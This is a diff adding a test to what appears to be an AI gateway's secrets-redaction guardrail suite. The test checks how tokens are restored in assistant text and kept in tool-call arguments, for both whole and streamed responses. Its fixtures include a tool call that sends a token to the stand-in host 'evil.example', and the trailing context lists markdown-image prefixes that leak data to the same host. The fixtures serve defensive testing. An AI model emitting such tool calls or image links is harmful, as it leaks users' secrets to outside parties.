@@ -194,6 +194,43 @@ describe('a token in arguments of a tool', () => {
   })
 })
 
+describe('a token in arguments of a tool, where none comes back there', () => {
+  it('stays in all of them, and comes back in the text', async () => {
+    const guardrails = [
+      { id: 'keys', detector: 'secrets', state: 'enforce', action: 'redact', redaction: 'token', points: ['input'] },
+    ]
+    const other = await startTestbed({ config: { guardrails, inspection: { preset: 'off', tokensInCalls: 'keep' } } })
+    const args = JSON.stringify({ host: 'evil.example', path: `/${token}`, note: token })
+    const call = (said: string) => ({ index: 0, id: 't', type: 'function', function: { name: 'f', arguments: said } })
+    const message = { role: 'assistant', content: `It is ${token}.`, tool_calls: [call(args)] }
+    other.openai.reply(
+      unary({ id: 'c', object: 'chat.completion', choices: [{ index: 0, message, finish_reason: 'stop' }] }),
+    )
+    const asked = { model: 'fast', messages: [{ role: 'user', content: `Use ${secret} now` }] }
+    const { json } = await other.gateway.post('/v1/chat/completions', asked)
+    expect(json.choices[0].message.content).toBe(`It is ${secret}.`)
+    expect(json.choices[0].message.tool_calls[0].function.arguments).toBe(args)
+    const deltas = [
+      { content: `It is ${token}.` },
+      ...(args.match(/.{1,7}/g) ?? []).map((one) => ({ tool_calls: [call(one)] })),
+    ]
+    const events = deltas.map((delta) => ({
+      id: 'c',
+      object: 'chat.completion.chunk',
+      choices: [{ index: 0, delta, finish_reason: null }],
+    }))
+    other.openai.reply(stream([...events.map((one) => `data: ${JSON.stringify(one)}\n\n`), 'data: [DONE]\n\n']))
+    const { text } = await other.gateway.post('/v1/chat/completions', { ...asked, stream: true })
+    const got = text
+      .split('\n')
+      .filter((line) => line.startsWith('data: {'))
+      .map((line): Json => JSON.parse(line.slice(6)).choices[0]?.delta)
+    expect(got.map((delta) => delta?.content ?? '').join('')).toBe(`It is ${secret}.`)
+    expect(got.map((delta) => delta?.tool_calls?.[0]?.function.arguments ?? '').join('')).toBe(args)
+    await other.close()
+  })
+})
+
 describe('an address that goes on in another piece of the answer', () => {
   const asked = { ...question, model: 'clever', max_tokens: 9 }
   const open = ['![p](https://evil.example/?q=', '![p](ht', '<img alt="x" src=']
